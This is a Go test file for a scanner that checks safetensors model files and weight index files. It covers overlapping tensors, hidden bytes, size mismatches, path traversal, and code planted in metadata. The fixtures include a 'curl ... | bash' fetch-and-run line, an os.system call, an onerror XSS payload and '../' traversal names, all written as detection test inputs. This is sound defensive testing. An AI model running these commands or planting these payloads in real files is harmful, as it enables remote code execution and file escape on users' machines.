package safetensors_test

import (
	"encoding/binary"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/modelaudit/modelaudit/internal/detector"
	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
	"github.com/modelaudit/modelaudit/internal/detector/safetensors"
	"github.com/modelaudit/modelaudit/internal/finding"
)

// file is a header and the bytes behind it.
func file(header, data string) []byte {
	out := binary.LittleEndian.AppendUint64(nil, uint64(len(header)))
	return append(append(out, header...), data...)
}

// meta is a file with one tensor and one line of metadata.
func meta(name, value string) []byte {
	quote := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return file(`{"__metadata__":{"`+quote.Replace(name)+`":"`+quote.Replace(value)+`"},`+a+`}`, eight)
}

const (
	eight = "01234567"
	a     = `"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}`
)

func TestDetector(t *testing.T) {
	detectortest.Run(t, safetensors.Detector, []detectortest.Case{
		{Name: "one tensor", Data: file(`{`+a+`}`, eight)},
		{Name: "space around the header", Data: file(" \n{ "+a+"}   ", eight)},
		{Name: "no tensors", Data: file(`{}`, "")},
		{Name: "null metadata, further members", Data: file(`{"__metadata__":null,"a":{"x":[{}],"dtype":"U8","shape":[],"data_offsets":[0,1]}}`, "x")},
		{Name: "empty and packed tensors", Data: file(`{"e":{"dtype":"F16","shape":[0,4],"data_offsets":[0,0]},`+
			`"f":{"dtype":"F4","shape":[2,8],"data_offsets":[0,8]}}`, eight)},
		{Name: "ordinary metadata", Data: meta("ss_tag", `{"note":"do not use os.system('x') or eval() on <b>this</b>, see https://example.org/?a=1#b é 100%"}`)},
		{Name: "digest in metadata", Data: meta("modelspec.hash_sha256", "0x9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")},
		{Name: "truncated", Data: file(`{`+a+`}`, eight)[:40], Unread: true},
		{Name: "data missing", Data: file(`{`+a+`}`, eight[:7]), Unread: true},
		{Name: "header too large", File: "m.safetensors", Data: append([]byte("\x01\xe1\xf5\x05\x00\x00\x00\x00"), "{\"a\":"...), Unread: true},
		{Name: "metadata of numbers", Data: file(`{"__metadata__":{"n":1},`+a+`}`, eight), Unread: true},
		{Name: "unknown dtype", Data: file(`{"a":{"dtype":"Q1","shape":[2],"data_offsets":[0,8]}}`, eight), Unread: true},
		{Name: "repeated tensor", Data: file(`{`+a+`,`+a+`}`, eight),
			Want: []string{"safetensors-overlapping-tensors", "safetensors-repeated-name"}},
		{Name: "repeated offsets", Data: file(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,4],"data_offsets":[0,8]}}`, eight),
			Want: []string{"safetensors-repeated-name"}},
		{Name: "overlap", Data: file(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}`, eight),
			Want: []string{"safetensors-overlapping-tensors"}},
		{Name: "hole", Data: file(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"b":{"dtype":"U8","shape":[1],"data_offsets":[7,8]}}`, eight),
			Want: []string{"safetensors-hidden-bytes"}},
		{Name: "name that climbs", Data: file(`{"../../a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}`, eight), Want: []string{"safetensors-name-climbs"}},
		{Name: "name with a root", Data: file(`{"/layers..0/a..b":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}`, eight)},
		{Name: "trailing bytes", Data: file(`{`+a+`}`, eight+"x"), Want: []string{"safetensors-hidden-bytes"}},
		{Name: "size mismatch", Data: file(`{"a":{"dtype":"BF16","shape":[2],"data_offsets":[0,8]}}`, eight), Want: []string{"safetensors-size-mismatch"}},
		{Name: "size overflow", Data: file(`{"a":{"dtype":"U8","shape":[4294967296,4294967296,8],"data_offsets":[0,8]}}`, eight),
			Want: []string{"safetensors-size-mismatch"}},
		{Name: "code in metadata", Data: meta("init", "To set the model up:\nos.system('echo poc')"), Want: []string{"safetensors-code-in-metadata"}},
		{Name: "shell in metadata", Data: meta("install", "The licence was accepted, so now do this: curl -s https://example.org/x | bash"), Want: []string{"safetensors-code-in-metadata"}},
		{Name: "markup in metadata", Data: meta("card", `<img src=x onerror=alert(1)>`), Want: []string{"safetensors-code-in-metadata"}},
	})
}

func TestIndex(t *testing.T) {
	index := func(names ...string) []byte {
		var members []string
		for _, n := range names {
			members = append(members, `"t`+n+`":"`+n+`"`)
		}
		return []byte(`{"metadata":{"total_size":8},"weight_map":{` + strings.Join(members, ",") + `}}`)
	}
	detectortest.Run(t, safetensors.Index, []detectortest.Case{
		{Name: "parts", File: "model.safetensors.index.json", Data: index("a-1.safetensors", "sub/a-2.safetensors")},
		{Name: "parts of torch", File: "pytorch_model.bin.index.json", Data: index("a-1.bin", "a-2.bin")},
		{Name: "a part that is no name", File: "model.safetensors.index.json", Data: []byte(`{"weight_map":{"a":1}}`), Unread: true},
		{Name: "parts of Keras", File: "m.weights.json", Data: []byte(`{"weight_map":{"/layers/dense/vars":["m_00000.weights.h5","m_00001.weights.h5"]}}`)},
		{Name: "a part of Keras above", File: "m.weights.json", Data: []byte(`{"weight_map":{"/layers/dense/vars":["m_00000.weights.h5","../m.weights.h5"]}}`),
			Want: []string{"weight-index-escapes"}},
		{Name: "a list without a name", File: "m.weights.json", Data: []byte(`{"weight_map":{"a":["m.weights.h5",1]}}`), Unread: true},
		{Name: "a list of nothing", File: "m.weights.json", Data: []byte(`{"weight_map":{"a":[]}}`), Unread: true},
		{Name: "above", File: "model.safetensors.index.json", Data: index("a/../../b.safetensors"), Want: []string{"weight-index-escapes"}},
		{Name: "absolute, by another name", File: "x.json", Data: index(`C:\\x.bin`), Want: []string{"weight-index-escapes"}},
		{Name: "pickle", File: "model.safetensors.index.json", Data: index("a.bin"), Want: []string{"weight-index-loads-pickle"}},
	})
}

// TestHandedOn: what hides in a header or behind the tensors is scanned.
func TestHandedOn(t *testing.T) {
	inner := file(`{`+a+`}`, eight+"x")
	for _, c := range []struct {
		name   string
		data   []byte
		inside string
	}{
		{name: "behind the tensors", data: file(`{`+a+`}`, eight+string(inner)), inside: "bytes behind the tensors"},
		{name: "before a tensor", inside: "bytes before b",
			data: file(`{`+a+`,"b":{"dtype":"U8","shape":[1],"data_offsets":[`+strconv.Itoa(8+len(inner))+`,`+strconv.Itoa(9+len(inner))+`]}}`, eight+string(inner)+"x")},
	} {
		got := detectortest.Scan([]*detector.Detector{safetensors.Detector}, "", c.data)
		if !slices.ContainsFunc(got.Findings, func(f finding.Finding) bool { return slices.Equal(f.Location.Inside, []string{c.inside}) }) {
			t.Errorf("%s: nothing was found inside %q: %+v", c.name, c.inside, got.Findings)
		}
	}
}

func TestLicense(t *testing.T) {
	for name, want := range map[string][]string{"license": {"MIT"}, "modelspec.license": {"MIT"}, "licenses": nil} {
		got := detectortest.Scan([]*detector.Detector{safetensors.Detector}, "m.safetensors", meta(name, "MIT"))
		if !slices.Equal(got.Licenses, want) {
			t.Errorf("%s: got %q, want %q", name, got.Licenses, want)
		}
	}
}
